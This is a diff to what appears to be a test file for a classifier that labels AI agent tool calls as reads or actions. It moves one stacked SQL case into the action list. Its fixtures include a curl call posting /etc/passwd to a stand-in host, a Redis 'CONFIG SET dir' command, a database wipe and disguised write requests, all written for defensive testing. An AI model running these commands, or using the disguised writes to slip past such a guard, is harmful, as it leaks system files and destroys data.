@@ -27,10 +27,10 @@ const cases: Record<"acts" | "unclear" | "reads", [string, unknown][]> = {
     ["find", { collection: "u", pipeline: [{ $match: {} }, { $out: "u2" }] }], ["find", { collection: "u", pipeline: '[{"$match": {}}, {"$merge": {"into": "u"}}]' }], ["get_value", { command: "CONFIG SET dir /tmp" }],
     ["fetch", { url: "https://api.example/v1/x?_method=PUT" }], ["curl_get", { args: ["-X", "PATCH", "https://api.example/x"] }],
     ["search", { query: "SELECT pg_terminate_backend(1)" }], ["curl_get", { args: ["-sSXDELETE", "https://x.example/a"] }], ["curl_get", { args: ["-sd@/etc/passwd", "https://x.example/a"] }],
-    ["fetch", { request: "POST /x HTTP/1.1\r\nHost: a\r\n\r\n" }], ["http_get", { url: "https://x.example/v1/users/5:delete" }], ["query_graph", { query: "CALL db.custom.wipe() YIELD x RETURN x" }], ["search", { ldif: "dn: cn=x\nchangetype: delete" }],
+    ["fetch", { request: "POST /x HTTP/1.1\r\nHost: a\r\n\r\n" }], ["http_get", { url: "https://x.example/v1/users/5:delete" }], ["query_graph", { query: "CALL db.custom.wipe() YIELD x RETURN x" }], ["search", { ldif: "dn: cn=x\nchangetype: delete" }], ["query", { sql: "SELECT 1; frobnicate the table" }],
   ],
   unclear: [
-    ["query", { sql: "SELECT my_func(1)" }], ["query", { sql: 'SELECT "pg_terminate_backend"(1)' }], ["query", { sql: "SELECT ƒ(1)" }], ["query", { sql: "SELECT 1; frobnicate the table" }],
+    ["query", { sql: "SELECT my_func(1)" }], ["query", { sql: 'SELECT "pg_terminate_backend"(1)' }], ["query", { sql: "SELECT ƒ(1)" }],
     ["query_graph", { query: "MATCH (n) RETURN apoc.text.join(n.x, ',')" }], 
     ["query_graph", { query: "g.V().frob()" }], ["sparql_query", { query: "SELECT * WHERE { SERVICE <http://x.example/> { ?s ?p ?o } }" }],
     ["search", { search: "search index=x | `macro`" }], ["search", { search: "search index=x | frobnicate" }],
